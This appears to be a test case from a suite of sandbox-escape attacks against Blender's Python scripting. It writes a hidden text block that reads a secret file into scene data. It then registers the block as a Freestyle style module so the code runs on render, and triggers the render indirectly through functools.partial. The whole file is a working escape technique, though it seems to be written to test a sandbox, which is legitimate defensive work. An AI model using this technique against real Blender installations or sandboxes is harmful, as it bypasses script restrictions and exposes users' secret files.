# attack: a Freestyle module runs a text block as Python when its scene is rendered; operators through functools.partial
# family: operators
import bpy
from functools import partial

block = bpy.data.path_resolve("texts").new("lines.py")
block.write("import bpy\nbpy.context.scene['found'] = open('$SECRET_FILE').read()\n")
scene = bpy.context.scene
scene.render.use_freestyle = True
settings = bpy.context.view_layer.freestyle_settings
settings.mode = "SCRIPT"
settings.modules.new().script = block
print("REACHED", block, "runs with each picture")
bpy.ops.mesh.primitive_cube_add()
scene.camera = bpy.data.objects.new("eye", bpy.data.cameras.new("eye"))
scene.camera.location = (0, 0, 9)
scene.collection.objects.link(scene.camera)
scene.render.engine = "CYCLES"
scene.cycles.samples, scene.cycles.use_denoising = 1, False
scene.render.resolution_x = scene.render.resolution_y = 8
partial(lambda tools: tools.render.render(), bpy.ops)()
print("ESCAPED", scene["found"])
